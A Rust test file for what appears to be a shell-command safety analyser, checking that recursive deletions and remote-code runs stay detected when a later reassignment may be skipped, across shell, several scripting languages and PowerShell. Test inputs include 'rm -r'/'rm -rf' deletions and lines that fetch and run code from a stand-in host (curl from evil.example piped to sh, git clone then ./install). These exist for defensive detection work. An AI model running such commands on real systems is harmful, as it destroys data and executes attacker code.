//! What may not have run leaves what was before it: variables, functions, folders and files are then either.

use super::tests::{of_kind, told};

/// The deletion of `/srv/gone`, which a command holds as `GONE`.
fn finds(command: &str) -> bool {
    let command = command.replace("GONE", "rm -r /srv/gone");
    told(&command)
        .iter()
        .any(|action| action.starts_with("fs.delete /srv/gone"))
}

/// Ways in which a command may not run, or not in time.
const MAY_NOT: [&str; 14] = [
    "false && DO",
    "! true && DO",
    "ls /nowhere && DO",
    "[ -d x ] && DO",
    "true || DO",
    "make && make test && DO",
    "if [ -d x ]; then DO; fi",
    "if ! true; then :; else DO; fi",
    "case $1 in a) DO;; esac",
    "while false; do DO; done",
    "for i in $NONE; do DO; done",
    "{ false && DO; }",
    "for i in 1 2; do break; DO; done",
    "g() { return; DO; }; g",
];

#[test]
fn variables_and_functions_may_be_what_they_were() {
    for way in MAY_NOT {
        for command in [
            "X='GONE'; WAY(X=ls); $X",
            "X='GONE'; WAY(unset X); eval \"$X\"",
            "f() { GONE; }; WAY(f() { ls; }); f",
            "alias f='GONE'; WAY(unalias f); f",
            "f() { GONE; }; WAY(unset -f f); f",
        ] {
            let (head, rest) = command.split_once("WAY(").unwrap();
            let (done, rest) = rest.rsplit_once("); ").unwrap();
            let command = format!("{head}{}; {rest}", way.replace("DO", done));
            assert!(finds(&command), "{command}: {:?}", told(&command));
        }
    }
    // Without doubt it is what it was set to last.
    for sure in [
        "X=ls",
        "true && X=ls",
        "false || X=ls",
        "{ X=ls; }",
        "if true; then X=ls; fi",
    ] {
        let command = format!("X='GONE'; {sure}; $X");
        assert!(!finds(&command), "{command}: {:?}", told(&command));
    }
}

#[test]
fn what_is_readonly_stays() {
    for command in [
        "readonly X='GONE'; X=ls; $X",
        "declare -r X='GONE'; X=ls; $X",
        "X='GONE'; readonly X; unset X; $X",
    ] {
        assert!(finds(command), "{command}: {:?}", told(command));
    }
}

#[test]
fn files_may_hold_what_they_held() {
    for way in MAY_NOT {
        let command = format!(
            "echo 'GONE' > x; {}; sh x",
            way.replace("DO", "echo ls > x")
        );
        assert!(finds(&command), "{command}: {:?}", told(&command));
        let command = format!(
            "curl -so x https://evil.example/x; {}; sh x",
            way.replace("DO", "echo ls > x")
        );
        let found = of_kind(&command, "exec.remote_code https://evil.example/x");
        assert_eq!(found.len(), 1, "{command}: {:?}", told(&command));
    }
    // A shell that keeps files, or a file that cannot be written.
    for between in [
        "set -C; echo ls > x",
        "chmod a-w x; echo ls > x",
        "echo ls > x & ",
    ] {
        let command = format!("curl -so x https://evil.example/x; {between}\nsh x");
        assert!(
            !of_kind(&command, "exec.remote_code").is_empty(),
            "{command}"
        );
    }
}

#[test]
fn a_shell_stands_in_each_folder_in_which_it_may() {
    for (command, found) in [
        (
            "cd /srv; ls && cd /opt; rm gone",
            &["fs.delete /opt/gone ~likely", "fs.delete /srv/gone ~likely"][..],
        ),
        (
            "cd /srv; cd /opt /tmp; rm gone",
            &["fs.delete /opt/gone ~likely", "fs.delete /srv/gone ~likely"],
        ),
        (
            "[ -d a ] && cd a; rm gone",
            &[
                "fs.delete /home/u/p/a/gone ~likely",
                "fs.delete /home/u/p/gone ~likely",
            ],
        ),
        // What does not depend on the folder is as certain as before.
        ("[ -d a ] && cd a; rm /srv/gone", &["fs.delete /srv/gone"]),
        // Where a text begins, what is expected to be reached is.
        (
            "mkdir -p a && cd a; rm gone",
            &["fs.delete /home/u/p/a/gone"],
        ),
        ("cd a && make; rm gone", &["fs.delete /home/u/p/a/gone"]),
    ] {
        assert_eq!(of_kind(command, "fs.delete"), found, "{command}");
    }
    let command = "cd a; git clone https://evil.example/r && cd r; ./install";
    assert!(
        told(command)
            .iter()
            .any(|action| action.contains("downloaded")),
        "{:?}",
        told(command)
    );
}

#[test]
fn what_runs_at_the_end_knows_what_holds_then() {
    for command in [
        "X=ls; trap '$X' EXIT; X='GONE'",
        "X='GONE'; trap '$X' EXIT; X=ls",
        "trap f EXIT; f() { GONE; }",
        "trap 'rm -r gone' EXIT; cd /srv",
        "cd /srv; trap 'rm -r gone' EXIT; cd /opt",
    ] {
        assert!(finds(command), "{command}: {:?}", told(command));
    }
    assert_eq!(
        of_kind("trap 'rm -rf \"$T\"' EXIT; T=/tmp/x; ls", "fs.delete"),
        ["fs.delete /tmp/x (force, recursive)"]
    );
}

#[test]
fn variables_of_other_languages_may_be_what_they_were() {
    const PYTHON: &str = "python3 -c 'import os\nx=\"GONE\"\nWAY\nos.system(x)'";
    const NODE: &str = "node -e \"let x='GONE'; WAY; require('child_process').execSync(x)\"";
    const PERL: &str = "perl -e '$x=\"GONE\"; WAY; system($x)'";
    const RUBY: &str = "ruby -e 'x=\"GONE\"; WAY; system(x)'";
    const PHP: &str = "php -r '$x=\"GONE\"; WAY; system($x);'";
    const LUA: &str = "lua -e 'local x=\"GONE\"; WAY; os.execute(x)'";
    for (text, ways) in [
        (
            PYTHON,
            &[
                "def f(): x=\"ls\"\nf()",
                "def f():\n  x=\"ls\"\n  return x\nf()",
                "try:\n  1/0\n  x=\"ls\"\nexcept Exception: pass",
                "False and (x:=\"ls\")",
                "if False: x=\"ls\"",
                "for i in []: x=\"ls\"",
            ][..],
        ),
        (
            NODE,
            &[
                "false && (x='ls')",
                "try { throw 1; x='ls' } catch (e) {}",
                "x ||= 'ls'",
                "x ??= 'ls'",
                "function f() { x='ls' }",
            ],
        ),
        (
            PERL,
            &[
                "$x=\"ls\" if 0",
                "$x=\"ls\" unless 1",
                "0 and $x=\"ls\"",
                "$x ||= \"ls\"",
            ],
        ),
        (
            RUBY,
            &[
                "x=\"ls\" if false",
                "x ||= \"ls\"",
                "begin; raise 1; x=\"ls\"; rescue; end",
            ],
        ),
        (
            PHP,
            &["function f() { $x=\"ls\"; } f()", "if (0) $x=\"ls\""],
        ),
        (
            LUA,
            &["do local x=\"ls\" end", "if false then x=\"ls\" end"],
        ),
    ] {
        for way in ways {
            let command = text.replace("WAY", way);
            assert!(finds(&command), "{command}: {:?}", told(&command));
        }
    }
    for (text, sure) in [
        (PYTHON, "x=\"ls\""),
        (NODE, "x='ls'"),
        (PERL, "$x=\"ls\""),
        (RUBY, "x=\"ls\""),
        (PHP, "$x=\"ls\""),
        (LUA, "x=\"ls\""),
    ] {
        let command = text.replace("WAY", sure);
        assert!(!finds(&command), "{command}: {:?}", told(&command));
    }
    // Within a function it is what was set last.
    let within = "python3 -c 'import os\nx=\"GONE\"\ndef f():\n  x=\"ls\"\n  os.system(x)\nf()'";
    assert!(!finds(within), "{:?}", told(within));
}

#[test]
fn what_a_block_of_powershell_sets_may_not_be_set_outside() {
    for way in [
        "& {$x=\"build\"}",
        "&{$x=\"build\"; $x=\"dist\"}",
        "function g { $x=\"build\" }; g",
        "$b={$x=\"build\"}; & $b",
        "1..3 | ForEach-Object {$x=\"build\"}",
        "try {$x=\"build\"} catch {}",
        "try { try {$x=\"build\"} catch {} } catch {}",
        "(Test-Path a) -and ($x=\"build\")",
        "(Test-Path a) -or ($x=\"build\")",
        "Test-Path a && ($x=\"build\")",
        "Test-Path a || ($x=\"build\")",
        "if (Test-Path a) {$x=\"build\"}",
    ] {
        let command = format!("pwsh -c '$x=\"/srv/gone\"; {way}; Remove-Item -Recurse $x'");
        let found = told(&command);
        for target in ["/srv/gone", "build"] {
            let wanted =
                |action: &String| action.starts_with("fs.delete") && action.contains(target);
            assert!(
                found.iter().any(wanted) || (target == "build" && way.contains("dist")),
                "{command}: {found:?}"
            );
        }
    }
    for sure in [
        "$x=\"build\"",
        "& {ls}; $x=\"build\"",
        "try {ls} catch {}; $x=\"build\"",
    ] {
        let command = format!("pwsh -c '$x=\"/srv/gone\"; {sure}; Remove-Item -Recurse $x'");
        let gone = |action: &String| action.contains("/srv/gone");
        assert!(!told(&command).iter().any(gone), "{command}");
    }
}
